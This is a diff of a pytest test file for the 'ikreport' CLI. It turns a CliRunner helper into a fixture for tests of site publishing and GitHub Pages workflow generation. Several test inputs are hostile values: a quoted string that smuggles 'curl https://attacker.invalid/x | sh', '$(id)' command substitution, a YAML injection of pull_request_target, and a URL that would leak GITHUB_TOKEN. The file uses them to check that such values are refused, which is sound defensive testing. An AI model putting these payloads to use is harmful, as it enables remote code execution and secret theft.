@@ -12,17 +12,11 @@ import shutil
 
 import pytest
 import yaml
-from click.testing import CliRunner
 
 from conftest import ROOT, git
-from ikreport.cli.main import cli
 
 SITE = ROOT / "site"
 SHA_PIN = re.compile(r"^\s*(?:- )?uses: [\w./-]+@[0-9a-f]{40}  # v\d+\.\d+\.\d+$")
-
-
-def run(*args):
-    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
 
 
 @pytest.fixture
@@ -61,7 +55,7 @@ def test_manifest_lists_every_file_the_build_wrote():
 
 # -- publish pushes only regular files the build wrote ------------------------------------
 
-def test_a_symlinked_file_in_the_site_is_refused_before_anything_is_committed(repo, tmp_path):
+def test_a_symlinked_file_in_the_site_is_refused_before_anything_is_committed(repo, tmp_path, run):
     work, bare = repo
     secret = tmp_path / "secret.key"
     secret.write_text("PRIVATE KEY\n")
@@ -125,7 +119,7 @@ def test_a_manifest_not_shaped_as_the_build_writes_it_is_refused(repo, manifest)
     assert branches(bare) == []
 
 
-def test_every_publish_commit_carries_the_site_trailer(repo):
+def test_every_publish_commit_carries_the_site_trailer(repo, run):
     work, bare = repo
     result = run("publish", work / "site", "--remote", bare, "-m", "Site for v2")
     assert result.exit_code == 0, result.output
@@ -140,7 +134,7 @@ def test_every_publish_commit_carries_the_site_trailer(repo):
 
 # -- publish never overwrites a branch that holds work ---------------------------------------
 
-def test_the_checked_out_branch_is_refused(repo):
+def test_the_checked_out_branch_is_refused(repo, run):
     work, bare = repo
     before = git("rev-parse", "main", cwd=work)
     result = run("publish", work / "site", "--remote", bare, "--branch", "main", "--no-history", "--no-push")
@@ -164,7 +158,7 @@ def test_a_local_branch_holding_work_is_refused_unless_forced(repo):
     assert git("rev-list", "--count", "docs", cwd=work).strip() == "1"
 
 
-def test_a_remote_branch_holding_work_is_refused_unless_forced(repo, tmp_path):
+def test_a_remote_branch_holding_work_is_refused_unless_forced(repo, tmp_path, run):
     from ikreport.errors import BranchHoldsWorkError
 
     work, bare = repo
@@ -204,7 +198,7 @@ def test_remote_and_branch_never_reach_git_as_options_or_stream_lines(repo, opti
 
 # -- init-pages: no option value reaches a shell line; least privilege; pinned actions -------
 
-def test_init_pages_values_reach_the_workflow_only_through_env(tmp_path):
+def test_init_pages_values_reach_the_workflow_only_through_env(tmp_path, run):
     install = 'ikreport"; curl https://attacker.invalid/x | sh; echo "'
     archive = "evidence $(id) `id` #"
     main = "main], pull_request_target: {branches: [x"
@@ -228,7 +222,7 @@ def test_init_pages_values_reach_the_workflow_only_through_env(tmp_path):
     ("--install", "https://attacker.invalid/${{ secrets.GITHUB_TOKEN }}"),
     ("--archive", ""),
 ])
-def test_init_pages_refuses_values_no_quoting_makes_safe(tmp_path, option, value):
+def test_init_pages_refuses_values_no_quoting_makes_safe(tmp_path, option, value, run):
     from ikreport.errors import WorkflowValueError
     from ikreport.commands.publish import init_pages
 
@@ -241,7 +235,7 @@ def test_init_pages_refuses_values_no_quoting_makes_safe(tmp_path, option, value
     assert not (tmp_path / ".github").exists()
 
 
-def test_init_pages_grants_pages_rights_to_the_deploy_job_only_and_pins_actions(tmp_path):
+def test_init_pages_grants_pages_rights_to_the_deploy_job_only_and_pins_actions(tmp_path, run):
     git("init", "-q", cwd=tmp_path)
     assert run("init-pages", "--repo", tmp_path).exit_code == 0
     text = (tmp_path / ".github" / "workflows" / "ikreport-pages.yml").read_text("utf-8")
